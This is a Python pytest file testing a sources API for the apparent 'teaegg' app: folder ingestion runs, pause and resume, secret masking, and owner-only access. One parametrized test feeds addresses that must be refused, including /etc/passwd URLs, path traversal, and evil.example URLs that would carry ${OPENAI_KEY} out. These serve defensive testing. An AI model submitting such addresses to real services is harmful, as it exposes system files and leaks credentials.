"""Sources through the API: for whoever manages, and for everybody else as if there were none."""

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from tests.app.api.conftest import DIMENSIONS, client_of
from tests.ingest.sources.loopback import web_site

from teaegg.app.api.application import create_application
from teaegg.app.wiring import open_workspace
from teaegg.app.workspace import Workspace
from teaegg.core.actors import LOCAL_OWNER
from teaegg.core.settings import EmbeddingModelSettings, Settings, SourceSettings
from teaegg.models.standin import ScriptedChat, TermEmbedder
from teaegg.store.database import open_database
from teaegg.store.sources import SourceRecord, SourceRecords

SignedIn = Callable[[str], Awaitable[httpx.AsyncClient]]
ROUTES = [
    ("GET", "/api/sources"),
    ("POST", "/api/sources"),
    ("GET", "/api/sources/rules"),
    ("POST", "/api/sources/rules/run"),
    ("POST", "/api/sources/rules/pause"),
    ("POST", "/api/sources/rules/resume"),
    ("DELETE", "/api/sources/rules"),
]


@pytest.fixture
async def offering(home: Path, tmp_path: Path) -> AsyncIterator[Workspace]:
    """A workspace whose settings offer the folder `offered`, with one file of rules in it."""
    (tmp_path / "offered/rules").mkdir(parents=True)
    (tmp_path / "offered/rules/a.md").write_text("# 规定\n\n加班须事先批准。\n", "utf-8")
    settings = Settings(
        home=home,
        embedding=EmbeddingModelSettings(dimensions=DIMENSIONS),
        sources=SourceSettings(offered_folders=(str(tmp_path / "offered"),)),
    )
    async with open_workspace(
        settings, chat=ScriptedChat(), embedder=TermEmbedder(DIMENSIONS)
    ) as workspace:
        yield workspace


@pytest.fixture
async def owner(offering: Workspace) -> AsyncIterator[httpx.AsyncClient]:
    key = await offering.access.create_key(LOCAL_OWNER, "chen")
    bearer = {"Authorization": f"Bearer {key.secret}"}
    async with client_of(create_application(offering), **bearer) as client:
        yield client


def rules(tmp_path: Path, **changed: str) -> dict[str, str]:
    folder = str(tmp_path / "offered/rules")
    return {"name": "rules", "address": folder, "collection": "rules", **changed}


async def settled(client: httpx.AsyncClient, name: str) -> dict[str, Any]:
    """The source once it is no longer running."""
    for _ in range(200):
        found = (await client.get(f"/api/sources/{name}")).json()
        if found["status"] != "running":
            return dict(found)
        await asyncio.sleep(0.05)
    raise TimeoutError(name)


async def test_a_folder_is_added_run_paused_resumed_and_removed_with_its_documents(
    owner: httpx.AsyncClient, tmp_path: Path
) -> None:
    added = await owner.post("/api/sources", json=rules(tmp_path, schedule="every 2h"))
    assert added.status_code == 201
    assert (added.json()["status"], added.json()["kind"]) == ("new", "folder")
    assert added.json()["next_run"] == added.json()["added_at"]
    begun = await owner.post("/api/sources/rules/run")
    assert (begun.status_code, begun.json()["status"]) == (202, "running")
    done = await settled(owner, "rules")
    assert (done["status"], done["counts"], done["documents"]) == ("fine", {"learned": 1}, 1)
    assert done["next_run"] > done["succeeded_at"]
    paused = (await owner.post("/api/sources/rules/pause")).json()
    assert (paused["status"], paused["next_run"]) == ("paused", None)
    resumed = (await owner.post("/api/sources/rules/resume")).json()
    assert resumed["next_run"] == done["next_run"]
    gone = await owner.delete("/api/sources/rules", params={"documents": "forget"})
    assert gone.json() == {"removed": "rules", "forgotten": 1}
    listed = await owner.get("/api/documents", params={"collection": "rules"})
    assert listed.json()["documents"] == []
    assert (await owner.get("/api/sources")).json()["sources"] == []


async def test_its_documents_stay_unless_told_otherwise(
    owner: httpx.AsyncClient, tmp_path: Path
) -> None:
    await owner.post("/api/sources", json=rules(tmp_path))
    await owner.post("/api/sources/rules/run")
    await settled(owner, "rules")
    assert (await owner.delete("/api/sources/rules")).json()["forgotten"] == 0
    listed = await owner.get("/api/documents", params={"collection": "rules"})
    assert len(listed.json()["documents"]) == 1


async def test_what_goes_wrong_is_told_with_its_remedy(owner: httpx.AsyncClient) -> None:
    with web_site() as site:
        page = {"name": "wiki", "address": f"{site.url}/gone.html", "collection": "wiki"}
        assert (await owner.post("/api/sources", json=page)).status_code == 201
    await owner.post("/api/sources/wiki/run")
    failed = await settled(owner, "wiki")
    assert (failed["status"], failed["succeeded_at"]) == ("failed", None)
    assert "did not answer" in failed["error"]


@pytest.mark.parametrize(
    ("address", "status"),
    [
        ("/etc", 403),
        ("{offered}/../../..", 403),
        ("{offered}/leads-away", 403),
        ("file:///etc/passwd", 403),
        ("list:/etc/passwd", 403),
        ("sqlite:////etc/x.db", 403),
        ("http://evil.example/#bearer=${OPENAI_KEY}", 403),
        ("http://${OPENAI_KEY}@evil.example/", 403),
        ("http://evil.example/?key=${OPENAI_KEY}", 403),
        ("http://", 400),
        ("", 400),
    ],
)
async def test_an_account_of_the_page_reaches_neither_the_servers_files_nor_its_secrets(
    owner: httpx.AsyncClient, tmp_path: Path, address: str, status: int
) -> None:
    (tmp_path / "offered/leads-away").symlink_to("/etc")
    address = (
        address.format(offered=tmp_path / "offered", OPENAI_KEY="")
        if "{off" in address
        else address
    )
    reply = await owner.post("/api/sources", json=rules(tmp_path, address=address))
    assert reply.status_code == status, reply.text
    assert (await owner.get("/api/sources")).json()["sources"] == []


async def test_secrets_of_an_address_are_not_shown(
    owner: httpx.AsyncClient, offering: Workspace, home: Path
) -> None:
    """Adding refuses one in clear; what another hand left in the database is hidden all the same."""
    database = await open_database(f"sqlite+aiosqlite:///{home / 'records.db'}")
    address = "imaps://li:hunter2@mail.example/INBOX"
    known = SourceRecord("mail", address, "mail", "", "record", "chen", datetime.now(UTC))
    await SourceRecords(database).add(known)
    await database.close()
    shown = await owner.get("/api/sources")
    (mail,) = shown.json()["sources"]
    assert (mail["kind"], mail["address"]) == ("mail", "imaps://li:***@mail.example/INBOX")
    assert "hunter2" not in shown.text


@pytest.mark.parametrize("name", ["li", "wang"])
@pytest.mark.parametrize(("method", "route"), ROUTES)
async def test_for_everybody_else_there_is_nothing_here(
    signed_in: SignedIn, workspace: Workspace, tmp_path: Path, name: str, method: str, route: str
) -> None:
    await workspace.sources.add(LOCAL_OWNER, "rules", str(tmp_path), "plans")
    client = await signed_in(name)
    refused = await client.request(
        method, route, json=rules(tmp_path) if method == "POST" else None
    )
    nowhere = await client.get("/api/nowhere")
    assert refused.status_code == nowhere.status_code == 404
    assert refused.content == nowhere.content
    assert len(await workspace.sources.list(LOCAL_OWNER)) == 1


async def test_the_page_too_is_for_whoever_manages(
    signed_in: SignedIn, visitor: httpx.AsyncClient
) -> None:
    li, chen = await signed_in("li"), await signed_in("chen")
    assert (await visitor.get("/sources")).headers["location"] == "/sign-in"
    hidden, nowhere = await li.get("/sources"), await li.get("/nowhere")
    assert (hidden.status_code, hidden.content) == (404, nowhere.content)
    assert 'href="/sources"' not in (await li.get("/")).text
    assert 'href="/sources"' in (await chen.get("/")).text
    assert (await chen.get("/sources")).status_code == 200


async def test_unknown_names_and_wrong_values_are_told(
    owner: httpx.AsyncClient, tmp_path: Path
) -> None:
    assert (await owner.get("/api/sources/none")).status_code == 404
    assert (await owner.post("/api/sources/none/run")).status_code == 404
    wrong = await owner.post("/api/sources", json=rules(tmp_path, schedule="sometimes"))
    assert wrong.status_code == 400 and "daily 03:30" in wrong.json()["error"]["remedy"]
    await owner.post("/api/sources", json=rules(tmp_path))
    assert (await owner.post("/api/sources", json=rules(tmp_path))).status_code == 409
    twice = await owner.post("/api/sources/rules/run"), await owner.post("/api/sources/rules/run")
    assert [reply.status_code for reply in twice] == [202, 409]
    assert (await owner.delete("/api/sources/rules")).status_code == 409
    await settled(owner, "rules")


async def test_a_run_that_ends_while_its_state_is_read_is_never_shown_as_interrupted(
    offering: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The record is read before the run ends, its state made after: seen on a busy machine."""
    sources = offering.sources
    await sources.add(LOCAL_OWNER, "rules", str(tmp_path / "offered/rules"), "rules")
    await sources.start(LOCAL_OWNER, "rules")
    read = sources._records.get

    async def slowly(name: str) -> SourceRecord | None:
        found = await read(name)
        await asyncio.gather(*sources._tasks)
        return found

    monkeypatch.setattr(sources._records, "get", slowly)
    assert (await sources.state(LOCAL_OWNER, "rules")).status == "running"
    assert (await sources.state(LOCAL_OWNER, "rules")).status == "fine"
